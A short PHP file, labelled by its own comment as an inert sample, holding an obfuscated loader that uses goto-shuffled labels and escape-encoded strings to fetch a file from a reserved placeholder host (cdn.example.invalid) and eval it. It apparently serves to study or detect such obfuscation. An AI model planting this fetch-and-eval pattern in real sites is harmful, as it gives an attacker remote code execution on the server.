<?php
// Inert sample: a loader cut into pieces joined by goto (the order a reader sees is not the order
// PHP runs), fetching code from an address spelt in escapes and evaluating it. The host is a
// reserved .invalid name: nothing is ever fetched.
 goto Qm3a; Tr8v: $Zp1 = "\57\x73\x74\141\164\x69\x63\57\x6c\x2e\164\x78\164"; goto Hy2c; Ka5w: eval("\x3f\x3e" . $Vd4); goto Xx0e; Qm3a: $Lb7 = "\150\x74\164\x70\163"; goto Wn6d; Hy2c: $Uq9 = $Lb7 . "\x3a\x2f\57" . $Ns2 . $Zp1; goto Pj4r; Wn6d: $Ns2 = "\x63\x64\156\x2e\x65\170\x61\x6d\x70\154\x65\x2e\151\x6e\x76\141\154\x69\x64"; goto Tr8v; Pj4r: $Vd4 = @file_get_contents($Uq9); goto Rf1s; Rf1s: if ($Vd4 !== false) { goto Ka5w; } goto Xx0e; Xx0e: exit;
